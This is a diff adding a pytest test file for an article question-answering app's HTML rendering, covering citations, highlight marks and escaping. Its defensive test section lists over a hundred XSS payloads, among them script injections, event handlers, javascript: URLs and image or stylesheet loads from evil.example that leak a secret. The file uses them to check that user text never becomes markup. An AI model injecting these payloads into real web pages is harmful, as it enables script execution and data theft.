@@ -1,0 +1,495 @@
+"""What the page shows of answers and articles: golden HTML, marks, and that nothing people wrote becomes markup."""
+
+from dataclasses import replace
+from html.parser import HTMLParser
+
+import pytest
+
+from corpus.article import Article
+from qa.answer import Answer, Citation
+from ui import escape, paper, render
+from ui.paper import Shown
+
+TEXT = "Russia and Hamas\n\nBogdanov received them on 26 October and 19 January. Then he left.\n\nWhat came of it"
+
+
+def citation(n: int, quote: str, *words: str, text: str = TEXT) -> Citation:
+    start = text.index(quote)
+    marks = tuple((text.index(word, start), text.index(word, start) + len(word)) for word in words)
+    facts = ("Russia and Hamas", "M. H. Sweidan", "The Cradle", "2024-02-13", None)
+    return Citation(n, "a1", *facts, start, start + len(quote), quote, marks)
+
+
+BOGDANOV = citation(1, "Bogdanov received them on 26 October and 19 January.", "26 October", "19 January")
+ANSWER = Answer("When?", "When?", True, "26 October and 19 January", 0.934, (BOGDANOV,), (), 84)
+ARTICLE = Article(
+    "a1", "Russia and Hamas", TEXT, "M. H. Sweidan", "The Cradle", "2024-02-13", "https://thecradle.co/a?b=1&c=2"
+)
+
+
+# ── golden HTML ──────────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+def test_an_answer_shows_its_words_its_numbered_quote_and_its_source() -> None:
+    assert render.answer(ANSWER, turn=3) == (
+        '<div class="answer"><div class="words" dir="auto">26 October and 19 January'
+        '<button type="button" class="number" name="cite" value="3:1" title="Show quote 1 in the article">'
+        '<span class="unseen">Show quote 1 in the article </span>1</button></div>'
+        '<ol class="sources"><li class="source" value="1"><blockquote dir="auto">Bogdanov received them on '
+        '<mark class="said">26 October</mark> and <mark class="said">19 January</mark>.</blockquote>'
+        '<p class="from"><cite><bdi>Russia and Hamas</bdi></cite><span class="dot"> · </span><bdi>The Cradle</bdi>'
+        '<span class="dot"> · </span><time datetime="2024-02-13">13 February 2024</time></p>'
+        '<button type="button" class="show" name="cite" value="3:1">Show in the article</button></li></ol>'
+        '<p class="fine facts">confidence 93 % · 84 ms</p></div>'
+    )
+
+
+def test_an_article_shows_its_facts_and_its_text_with_the_quote_marked() -> None:
+    assert paper.article(ARTICLE, Shown(3, (BOGDANOV,), 1)) == (
+        '<article class="paper" data-article="a1" data-turn="3" data-focus="1">'
+        '<header><h2 dir="auto"><bdi>Russia and Hamas</bdi></h2><p class="byline">By <bdi>M. H. Sweidan</bdi>'
+        ' <span>·</span> <bdi>The Cradle</bdi> <span>·</span> <time datetime="2024-02-13">13 February 2024</time>'
+        ' <span>·</span> <a href="https://thecradle.co/a?b=1&amp;c=2" target="_blank"'
+        ' rel="noopener noreferrer nofollow"><bdi>thecradle.co</bdi></a></p></header>'
+        '<div class="text" dir="auto"><p dir="auto"><mark class="quote current" data-cites="1" data-label="1">'
+        'Bogdanov received them on <mark class="said">26 October</mark> and <mark class="said">19 January</mark>.'
+        '</mark> Then he left.</p><h3 dir="auto">What came of it</h3></div></article>'
+    )
+
+
+def test_a_decline_says_so_and_shows_the_closest_passages() -> None:
+    declined = Answer("Why?", "Why?", False, "", 0.1, (), (citation(1, "Then he left."),), 5)
+    shown = render.answer(declined, 2)
+    assert '<p class="words declined">These articles do not say.</p>' in shown
+    assert '<blockquote dir="auto">Then he left.</blockquote>' in shown
+    assert 'value="2:1">Show in the article' in shown
+    assert "confidence" not in shown
+
+
+def test_a_decline_without_passages_is_one_sentence() -> None:
+    decline = '<p class="words declined">These articles do not say.</p>'
+    shown = render.answer(Answer("Why?", "Why?", False, "", 0.0), 1)
+    assert shown == f'<div class="answer">{decline}<p class="fine facts">0 ms</p></div>'
+
+
+def test_a_rewritten_question_is_shown() -> None:
+    follow_up = Answer("And there?", "Who met in <Paris>?", False, "", 0.0)
+    assert '<p class="fine understood">Understood as: <bdi>Who met in &lt;Paris&gt;?</bdi></p>' in render.answer(
+        follow_up, 1
+    )
+
+
+def test_a_number_stands_after_the_words_that_its_quote_shows() -> None:
+    two = citation(2, "Then he left.", "he left")
+    words = render.answer(Answer("?", "?", True, "26 October; he left soon", 0.5, (two, BOGDANOV)), 1)
+    assert (
+        words.index("26 October") < words.index('value="1:1"') < words.index("; he left") < words.index('value="1:2"')
+    )
+    assert words.split('<ol class="sources">')[0].endswith("</button> soon</div>")
+
+
+def test_of_a_list_with_a_quote_a_line_each_number_ends_its_line() -> None:
+    cited = (BOGDANOV, replace(BOGDANOV, n=2))
+    words = render.answer(Answer("?", "?", True, "26 October, he\n19 January, he", 0.5, cited), 1).split("</ul>")[0]
+    lines = words.removeprefix('<div class="answer"><ul class="words list">').split("</li>")[:-1]
+    assert [line.split("<button")[0] for line in lines] == [
+        '<li dir="auto">26 October, he',
+        '<li dir="auto">19 January, he',
+    ]
+    assert [('value="1:1"' in line, 'value="1:2"' in line) for line in lines] == [(True, False), (False, True)]
+
+
+def test_a_number_does_not_cut_a_word() -> None:
+    said = Answer("?", "?", True, "26 Octobers", 0.5, (citation(1, "Then he left.", "he"),))
+    assert "26 Octobers<button" in render.answer(said, 1)
+
+
+def test_a_long_closest_passage_is_cut_with_an_ellipsis() -> None:
+    text = "word " * 200
+    long = citation(1, text.strip(), text=text)
+    shown = render.answer(Answer("?", "?", False, "", 0.0, (), (long,)), 1)
+    assert text[: render.CLOSEST_SHOWN] + "…</blockquote>" in shown
+
+
+# ── marks ────────────────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize(
+    ("spans", "expected"),
+    [
+        ([], "a&lt;b😀c"),
+        ([(1, 2)], 'a<mark class="said">&lt;</mark>b😀c'),
+        ([(3, 4)], 'a&lt;b<mark class="said">😀</mark>c'),
+        ([(0, 2), (1, 3)], '<mark class="said">a&lt;b</mark>😀c'),
+        ([(0, 1), (1, 2)], '<mark class="said">a&lt;</mark>b😀c'),
+        ([(3, 5), (0, 1)], '<mark class="said">a</mark>&lt;b<mark class="said">😀c</mark>'),
+        ([(2, 2), (4, 99)], 'a&lt;b😀<mark class="said">c</mark>'),
+        ([(-5, 1)], '<mark class="said">a</mark>&lt;b😀c'),
+    ],
+)
+def test_marked_words(spans: list[tuple[int, int]], expected: str) -> None:
+    assert escape.marked("a<b😀c", 0, 5, spans) == expected
+
+
+def at(n: int, start: int, end: int, *marks: tuple[int, int]) -> Citation:
+    return Citation(n, "a1", "T", None, None, None, None, start, end, "", marks)
+
+
+def highlighted(text: str, *citations: Citation, block: tuple[int, int] | None = None, focus: int | None = None) -> str:
+    words = [mark for each in citations for mark in each.marks]
+    return paper.highlighted(text, block or (0, len(text)), paper.highlights(citations), words, focus)
+
+
+def test_overlapping_quotes_become_one_mark_with_both_numbers() -> None:
+    assert highlighted("abcdef", at(2, 2, 5), at(1, 0, 3)) == (
+        '<mark class="quote" data-cites="1 2" data-label="1,2">abcde</mark>f'
+    )
+
+
+def test_touching_quotes_stay_two() -> None:
+    assert highlighted("abcd", at(1, 0, 2), at(2, 2, 4), focus=2) == (
+        '<mark class="quote" data-cites="1" data-label="1">ab</mark>'
+        '<mark class="quote current" data-cites="2" data-label="2">cd</mark>'
+    )
+
+
+def test_a_quote_over_two_paragraphs_is_marked_in_both_and_numbered_once() -> None:
+    text = "One two.\n\nThree four."
+    read = Article("a1", "T", text)
+    body = paper.article(read, Shown(1, (at(1, 4, 15, (10, 15)),), 1))
+    assert '<p dir="auto">One <mark class="quote current" data-cites="1" data-label="">two.</mark></p>' in body
+    assert (
+        '<p dir="auto"><mark class="quote current" data-cites="1" data-label="1">'
+        '<mark class="said">Three</mark></mark> four.</p>'
+    ) in body
+
+
+def test_words_outside_the_quote_are_not_marked() -> None:
+    assert highlighted("abcd", at(1, 0, 2, (1, 4))) == (
+        '<mark class="quote" data-cites="1" data-label="1">a<mark class="said">b</mark></mark>cd'
+    )
+
+
+def test_marks_fit_characters_outside_the_basic_plane() -> None:
+    text = "😀 𝔘𝔫 met 👩‍👩‍👧 there."
+    start = text.index("met")
+    assert highlighted(text, at(1, 0, len(text), (start, start + 3))).count('<mark class="said">met</mark>') == 1
+
+
+# ── paragraphs, headings, long texts ─────────────────────────────────────────────────────────────────────────────────
+
+
+def test_blocks_are_paragraphs_between_blank_lines() -> None:
+    text = "One.\n\nTwo\nlines.\n \nThree."
+    assert [text[slice(*block)] for block in paper.blocks(text, 0, len(text))] == ["One.", "Two", "lines.", "Three."]
+
+
+def test_lines_wrapped_at_a_width_are_one_paragraph() -> None:
+    text = ("x" * 70 + "\n") * 3 + "end."
+    assert paper.blocks(text, 0, len(text)) == [(0, len(text))]
+
+
+@pytest.mark.parametrize(
+    ("text", "heading"),
+    [
+        ("The Russian position on the war", True),
+        ("2024", True),
+        ("He said:", False),
+        ("It ends.", False),
+        ("and so on", False),
+        ("X" * 101, False),
+    ],
+)
+def test_headings(text: str, heading: bool) -> None:
+    assert paper.is_heading(text) is heading
+
+
+def test_the_title_is_not_shown_twice_unless_it_is_quoted() -> None:
+    assert paper.article(ARTICLE).count("Russia and Hamas") == 1
+    assert paper.article(ARTICLE, Shown(1, (citation(1, "Russia and Hamas"),), 1)).count("Russia and Hamas") == 2
+
+
+def test_of_a_very_long_article_the_part_around_the_quote_is_shown() -> None:
+    text = "A sentence. " * 100_000
+    shown = Shown(1, (at(7, 900_000, 900_011),), 7)
+    start, end = paper.window(len(text), shown)
+    assert (start, end) == (800_000, 1_000_000)
+    body = paper.article(Article("a1", "T", text), shown)
+    assert '<mark class="quote current" data-cites="7" data-label="7">A sentence.</mark>' in body
+    assert "… 800,000 more characters …" in body
+    assert "… 200,000 more characters …" in body
+
+
+# ── names, dates, addresses ──────────────────────────────────────────────────────────────────────────────────────────
+
+
+@pytest.mark.parametrize(
+    ("written", "shown"),
+    [
+        ("a\u202egnp.exe", "<bdi>a gnp.exe</bdi>"),
+        ("two\nlines\ttab\0nul", "<bdi>two lines tab nul</bdi>"),
+        ("\U000e0041tagged", "<bdi>tagged</bdi>"),
+        ("x" * 300, f"<bdi>{'x' * 79}…</bdi>"),
+        ("../../<img onerror>", "<bdi>../../&lt;img onerror&gt;</bdi>"),
+        ("%2e%2e", "<bdi>%2e%2e</bdi>"),
+        ("lone \ud800", "<bdi>lone ?</bdi>"),
+    ],
+)
+def test_names(written: str, shown: str) -> None:
+    assert escape.name(written) == shown
+
+
+def test_dates() -> None:
+    assert escape.day("2024-02-13") == '<time datetime="2024-02-13">13 February 2024</time>'
+    assert escape.day("<b>soon") == "<bdi>&lt;b&gt;soon</bdi>"
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        None,
+        "",
+        "javascript:alert(1)",
+        "JAVASCRIPT:alert(1)",
+        "java\nscript:alert(1)",
+        " https://a.b",
+        "https://",
+        "data:text/html,x",
+        "vbscript:x",
+        "file:///etc/passwd",
+        "//evil.example",
+        "https:\\\\evil",
+        "http://a b/",
+        "http://[",
+        "ftp://a.b/",
+        "https://a.b/\x00",
+    ],
+)
+def test_only_web_addresses_become_links(url: str | None) -> None:
+    assert escape.web_link(url) == ""
+
+
+# ── lists and lines ──────────────────────────────────────────────────────────────────────────────────────────────────
+
+
+def test_result_lines() -> None:
+    assert render.added("T & Co", 14, already=False) == "Added “<bdi>T &amp; Co</bdi>”, 14 passages."
+    assert render.added("T", 1, already=False) == "Added “<bdi>T</bdi>”, 1 passage."
+    assert render.added("T", 1, already=True) == "“<bdi>T</bdi>” is already there."
+    assert render.failed("No.", "a<b.txt") == '<span class="bad"><bdi>a&lt;b.txt</bdi>: No.</span>'
+
+
+def test_status() -> None:
+    assert "Loading models…" in render.status(False, 3)
+    assert "Ready · 1,200 articles" in render.status(True, 1200)
+    assert "Ready · 1 article<" in render.status(True, 1)
+
+
+# ── what people wrote never becomes markup ───────────────────────────────────────────────────────────────────────────
+
+HANDLERS = [
+    "onerror",
+    "onload",
+    "onclick",
+    "onmouseover",
+    "onfocus",
+    "onblur",
+    "ontoggle",
+    "onanimationstart",
+    "onpointerenter",
+    "onwheel",
+    "oncut",
+    "onstart",
+    "onfinish",
+]
+TAGS = [
+    "img",
+    "svg",
+    "body",
+    "iframe",
+    "input",
+    "video",
+    "audio",
+    "details",
+    "marquee",
+    "object",
+    "math",
+    "form",
+    "button",
+    "select",
+    "textarea",
+    "style",
+    "link",
+    "base",
+]
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script\x00>alert(1)</script>",
+    "<script src=//evil.example/x.js></script>",
+    "<<script>alert(1)//<</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>",
+    '" onmouseover="alert(1)',
+    "' onmouseover='alert(1)",
+    "` onmouseover=`alert(1)",
+    '" autofocus onfocus=alert(1) x="',
+    "</title><svg onload=alert(1)>",
+    "</textarea><svg onload=alert(1)>",
+    "</style><svg onload=alert(1)>",
+    "</mark></p></article><img src=x onerror=alert(1)>",
+    "</bdi></cite><img src=x onerror=alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[><img src=x onerror=alert(1)>]]>",
+    "<?xml version=1?><img src=x onerror=alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    '<a href="java&#x09;script:alert(1)">x</a>',
+    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
+    "[x](javascript:alert(1))",
+    "![x](http://evil.example/x.png)",
+    "![x][1] [1]: http://evil.example/x.png",
+    "<http://evil.example>",
+    "http://evil.example/?q=secret",
+    "![x](/gradio_api/file=http://evil.example/x)",
+    "$$\\href{javascript:alert(1)}{x}$$",
+    "$\\includegraphics{http://evil.example/x}$",
+    "```html <img src=x onerror=alert(1)> ```",
+    "`<img src=x onerror=alert(1)>`",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "#{alert(1)}",
+    "<%= alert(1) %>",
+    "&lt;img src=x onerror=alert(1)&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "&#x3c;script&#x3e;alert(1)",
+    "\\u003cimg src=x onerror=alert(1)\\u003e",
+    "%3Cimg%20src=x%20onerror=alert(1)%3E",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\ufeff<img src=x onerror=alert(1)>",
+    "\u202e<img src=x onerror=alert(1)>",
+    "\uff1cimg src=x onerror=alert(1)\uff1e",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x onerror=alert(1)//",
+    "<IMG SRC=&#106;avascript:alert(1)>",
+    "<div style=background:url(http://evil.example/x)>",
+    "<style>@import url(http://evil.example/x.css)</style>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<meta http-equiv=refresh content=0;url=http://evil.example>",
+    "<base href=http://evil.example/>",
+    "<button name=remove value=a1>x</button>",
+    "<button name=cite value=1:1>x</button>",
+    "<mark class=said>forged</mark>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+    *(f"<img src=x {handler}=alert(1)>" for handler in HANDLERS),
+    *(
+        f"<{tag} {handler}=alert(1) href=javascript:alert(1) src=//evil.example>"
+        for tag in TAGS
+        for handler in HANDLERS[:2]
+    ),
+]
+
+
+class Skeleton(HTMLParser):
+    """The tags of some HTML with their attributes' names, as a browser would see them."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, tuple[str, ...]]] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, tuple(name for name, _ in attrs)))
+
+    def handle_endtag(self, tag: str) -> None:
+        self.tags.append(("/" + tag, ()))
+
+    def handle_comment(self, data: str) -> None:
+        self.tags.append(("!", ()))
+
+    def handle_decl(self, decl: str) -> None:
+        self.handle_comment(decl)
+
+    def unknown_decl(self, data: str) -> None:
+        self.handle_comment(data)
+
+    def handle_pi(self, data: str) -> None:
+        self.handle_comment(data)
+
+
+class Entry:
+    def __init__(self, hostile: str) -> None:
+        self.id = self.title = self.author = self.source = self.published = self.added = hostile
+        self.passages = 3
+
+
+def everything(hostile: str) -> str:
+    """All that the page shows, with `hostile` wherever people can write."""
+    text = f"First x {hostile} y. Second."
+    quote = f"First x {hostile} y."
+    facts = {"title": hostile, "author": hostile, "source": hostile, "published": hostile}
+    cited = replace(citation(1, quote, hostile, text=text), **facts)  # type: ignore[arg-type]
+    read = Article(hostile, hostile, text, hostile, hostile, hostile, None, hostile)
+    said = Answer(hostile, f"u {hostile}", True, hostile, 0.5, (cited,))
+    declined = Answer(hostile, f"u {hostile}", False, "", 0.5, (), (cited,))
+    return "".join(
+        [
+            render.question(hostile),
+            render.notice(hostile),
+            render.problem(hostile),
+            render.answer(said, 1),
+            render.answer(declined, 2),
+            paper.article(read, Shown(1, (cited,), 1)),
+            paper.gone(hostile),
+            render.entries([Entry(hostile)], 1),
+            render.results([render.added(hostile, 2, False), render.failed(hostile, hostile)]),
+            render.removal(hostile),
+        ]
+    )
+
+
+HARMLESS = everything("harmless")
+
+
+def test_there_are_enough_payloads() -> None:
+    assert len(set(PAYLOADS)) >= 100
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_hostile_text_brings_no_markup(payload: str) -> None:
+    shown = everything(payload)
+    assert shown.count("<") == HARMLESS.count("<")
+    assert Skeleton(shown).tags == Skeleton(HARMLESS).tags
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_hostile_text_is_shown_as_it_is(payload: str) -> None:
+    class Words(HTMLParser):
+        said = ""
+
+        def handle_data(self, data: str) -> None:
+            self.said += data
+
+    words = Words()
+    words.feed(render.problem(payload))
+    words.close()
+    assert words.said == payload.replace("\0", "\ufffd")
+
+
+def test_hostile_addresses_are_never_linked() -> None:
+    linked = [payload for payload in PAYLOADS if escape.web_link(payload)]
+    assert linked == ["http://evil.example/?q=secret"]
+
+
+def test_nothing_refers_to_another_place() -> None:
+    shown = "".join(map(everything, PAYLOADS))
+    tags = Skeleton(shown).tags
+    assert {name for _, names in tags for name in names}.isdisjoint(
+        {"src", "srcset", "style", "href", "action", "poster"}
+    )
